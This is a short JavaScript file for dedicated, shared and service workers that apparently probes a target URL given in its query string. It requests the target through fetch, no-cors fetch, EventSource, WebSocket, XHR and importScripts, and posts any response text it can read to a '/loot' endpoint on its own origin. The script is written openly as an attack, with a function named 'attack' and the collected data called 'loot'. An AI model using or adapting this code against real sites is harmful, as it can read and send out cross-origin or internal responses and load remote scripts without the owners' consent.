// One file for dedicated, shared and service workers: it asks for what its address names.
const asked = new URL(location.href).searchParams;
const target = asked.get('u'), kind = asked.get('kind'), site = location.origin;
const tell = text => fetch(site + '/loot', {method: 'POST', mode: 'no-cors', body: text}).catch(() => 0);
const url = way => target + '?way=' + kind + '-' + way;
function attack() {
  fetch(url('fetch')).then(r => r.text()).then(tell, () => 0);
  fetch(url('fetch-no-cors'), {mode: 'no-cors'}).catch(() => 0);
  try { new EventSource(url('eventsource')); } catch {}
  try { new WebSocket(url('websocket').replace('http', 'ws')); } catch {}
  try { const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.onload = () => tell(x.responseText); x.send(); } catch {}
  try { importScripts(url('import')); } catch {}
}
attack();
